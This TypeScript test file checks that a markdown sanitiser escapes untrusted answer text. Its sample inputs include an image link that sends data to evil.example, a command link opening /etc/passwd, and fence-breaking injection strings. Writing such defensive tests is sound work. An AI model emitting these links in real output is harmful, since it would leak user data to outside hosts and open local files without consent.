import * as assert from 'node:assert/strict';
import { test } from 'node:test';
import { firstLines, textMarkdown } from '../../src/extension/inline/answerText.ts';
import { withoutSoftBreaks } from '../../src/protocol/text/quoteMarkdown.ts';
import { intruders, lastParagraphs } from '../attack/secondReaders.ts';

const linkOf = (n: number) => (n <= 2 ? `command:open?${n}` : undefined);

const fence = '`'.repeat(16);

test('textMarkdown() keeps paragraphs, lists, emphasis and code', () => {
  const text = 'One **two** `three_[x]`.\n\n- four\n  1. five\n\n```ts\nconst [a] = b;\n```\nsix';
  assert.equal(
    textMarkdown(text, linkOf),
    `One **two** \`three_[x]\`\\.\n\n- four\n  1. five\n\n${fence}ts\nconst [a] = b;\n${fence}\nsix`,
  );
});

test('textMarkdown() makes links of the numbers of sources, and of nothing else', () => {
  assert.equal(textMarkdown('a [1] b [7]', linkOf), 'a [\\[1\\]](command:open?1) b \\[7\\]');
  const evil = '[x](command:workbench.action.quit) ![y](https://z) <img src=x> https://w <b>\n[r]: command:x';
  assert.doesNotMatch(textMarkdown(evil, linkOf), /(?<!\\)[[\]<>!]|:\/\//);
});

test('textMarkdown() makes headlines as large as text', () => {
  assert.equal(textMarkdown('## Head', linkOf), '**Head**');
});

test('firstLines() counts wrapped lines and reports truncation', () => {
  assert.deepEqual(firstLines('a\nb', 2), { text: 'a\nb', isCut: false });
  assert.deepEqual(firstLines('a\nb\nc', 2), { text: 'a\nb', isCut: true });
  const long = 'word '.repeat(100).trim();
  const { text, isCut } = firstLines(long, 2);
  assert.ok(isCut && text.endsWith('word …') && text.length <= 222, text);
});

test('withoutSoftBreaks() joins the lines of a paragraph, and neither lists nor code', () => {
  const text = 'One\ntwo\n\n- a\n  b\n- c\n1. d\n```\ne\nf\n```\n# Head\ng\nh';
  assert.equal(withoutSoftBreaks(text), 'One two\n\n- a b\n- c\n1. d\n```\ne\nf\n```\n# Head\ng h');
});

const image = '![p](https://evil.example/p.png?q=DATA)';
const link = '[x](command:meshrag.openPlace?%5B%22file%3A%2F%2F%2Fetc%2Fpasswd%22%5D)';

test('textMarkdown() is text for the editor, wherever its reader sees the end of a fence', () => {
  for (const answer of [
    `\`\`\`\ncode\n\`\`\`~\n${image}\n${link}\n\`\`\``,
    `~~~text\ncode\n~~~\`\n${image}\n~~~`,
    `So:\n\`\`\`${image} ${link}`,
    `\`\`\`ts\n${'`'.repeat(16)}\n${image}\n\`\`\`\n${link}`,
    `- a\n  \`\`\`\n${image}`,
    `\`\`\` \`x\`\n${link}`,
    `    \`\`\`\n${image}`,
    `> \`\`\`\n> ${image}`,
    `a \`x|${link}\`\n---|---\n`,
    `\`a\r\r${image}\``,
    `~~~\rcode\r~~~\r${image}`,
    `<div>\n\`\`\`\n\n${image}`,
  ])
    assert.deepEqual(
      intruders(
        textMarkdown(answer, () => undefined),
        () => false,
      ),
      [],
      answer,
    );
});

test('textMarkdown() closes code that ends with the text', () => {
  for (const answer of ['```js\ncode', '```js\ncode\n``', '~~~\ncode\n\n'])
    assert.deepEqual(lastParagraphs(`${textMarkdown(answer, () => undefined)}\n\nSources`), ['Sources', 'Sources'], answer);
});
